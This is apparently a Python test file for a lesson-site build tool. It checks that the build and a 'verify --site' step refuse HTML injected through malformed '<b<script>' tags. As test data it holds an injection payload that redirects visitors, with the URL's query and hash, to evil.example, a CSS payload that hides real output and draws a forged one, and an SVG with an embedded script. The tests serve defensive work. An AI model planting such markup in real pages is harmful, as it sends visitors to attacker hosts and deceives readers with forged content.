"""Text that no check of the Markdown source takes for a tag comes out of Markdown as a real element:
``<b<script>`` is one tag named ``b<script`` to the HTML parser, but Python-Markdown escapes ``<b``
and passes ``<script>`` on. Two checks close it: the build reads each page's rendered content (no
element that runs, loads or embeds), and ``verify --site`` allows no script inside a page's
``<article>`` and lets a template expression stand for one value only, so a copy of one of the
theme's scripts or styles (whose hash the page's policy allows) cannot be placed in the content.
The shapes are those of an independent red-team's probes (a redirect through a copy of Material's
redirect script; a style that hides an experiment's output and draws a forged one)."""

from __future__ import annotations

from pathlib import Path

from test_hostile_html import CHECK, _project

from lessonkit.checks.tree import Doc
from lessonkit.site import active

REDIRECT = (
    '<b<script>window.location.replace(["https://evil.example/r",window.location.search,'
    'window.location.hash].join(""))</script>'
)
FORGE_STYLE = (
    '<b<style>:root{--md-text-font:"x\n}\n[id=exp-1] pre{visibility:hidden}\n'
    'div#forge{position:relative;margin-top:-770px}\n.x{--a:y";--md-code-font:"z"}</style>'
)


def _page(content: str) -> str:
    return (
        '<!doctype html>\n<html>\n<head>\n<meta charset="utf-8">\n<title>t</title>\n</head>\n<body>\n'
        f'<article class="md-content__inner md-typeset">\n{content}\n</article>\n</body>\n</html>\n'
    )


def _site_problems(content: str) -> list[str]:
    return [str(p) for p in active.problems(CHECK, Doc(_page(content)), "a.html", "site/a.html", [])]


def test_a_script_or_style_in_the_content_is_refused_by_the_site_check():
    script = _site_problems("<p>&lt;b<script>window.location.replace('x')</script></p>")
    assert script == [
        "site/a.html:9: a <script> inside the page's content (its <article>), where the theme writes none — "
        + active.HINT
    ]
    style = _site_problems("<p>&lt;b<style>.x{color:red}</style></p>")
    assert style == [
        "site/a.html:9: a <style> element that neither Material's templates nor lessonkit write — " + active.HINT
    ]


def test_a_template_expression_stands_for_one_value_not_for_rules():
    pattern = active._pattern('<style>:root{--md-text-font:"{{ font.text }}"}</style>')
    assert pattern.fullmatch('<style>:root{--md-text-font:"Noto Sans SC"}</style>')
    forged = FORGE_STYLE.replace("<b<style>", "<style>")
    assert not pattern.fullmatch(forged)


def test_the_build_refuses_the_redirect_and_verify_site_the_forging_style(tmp_path, pinned_root):
    site = _project(tmp_path / "p", pinned_root, snippets=False)
    site.page("a.md", "# 一\n\n前文\n\n" + REDIRECT + "\n")
    r = site.build()
    out = r.stdout + r.stderr
    assert r.returncode != 0 and "Traceback" not in out
    assert "docs/a.md:5: the page's content has a <script> element — " in out

    site.page("a.md", "# 一\n\n前文\n\n" + FORGE_STYLE + "\n")
    r = site.build()
    assert r.returncode == 0, (r.stdout + r.stderr)[-3000:]  # a style runs nothing: the site check reads it
    v = site.verify("--site", "site")
    assert v.returncode != 0
    assert (
        "site/a/index.html" in v.stderr
        and "a <style> element that neither Material's templates nor lessonkit write" in v.stderr
    )


def test_an_svg_of_the_folder_is_read_by_verify_site(tmp_path, pinned_root):
    site = _project(tmp_path / "s", pinned_root, snippets=False)
    site.page("a.md", "# 一\n\n前文\n")
    r = site.build()
    assert r.returncode == 0, (r.stdout + r.stderr)[-3000:]
    svg = Path(site.root) / "site" / "assets" / "x.svg"
    svg.write_text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n', encoding="utf-8")
    v = site.verify("--site", "site")
    assert v.returncode != 0
    assert "site/assets/x.svg" in v.stderr


def test_a_style_in_a_snapshot_cell_or_caption_is_refused_at_its_block(tmp_path, pinned_root):
    """The engine renders a block's captions and table cells from Markdown: a `<b<style>` there would
    sit inside the block, whose markup verify --site compares whole (red-team round 3, D4)."""
    site = _project(tmp_path / "c", pinned_root, snippets=False)
    site.script("g.py", "from lessonkit_record import record\nrecord.set('g', 6.0)\nprint('g', 6.0)\n")
    site.page(
        "a.md",
        "# 一\n\n```snapshot\nExperiment: experiments/g.py\n\n对象 | 值\n"
        "<b<style>[id=exp-1] pre{visibility:hidden}</style> | @g\n```\n",
    )
    r = site.build()
    out = r.stdout + r.stderr
    assert r.returncode != 0 and "Traceback" not in out
    assert "docs/a.md:3: " in out and "comes out of Markdown with a <style> element" in out, out[-3000:]
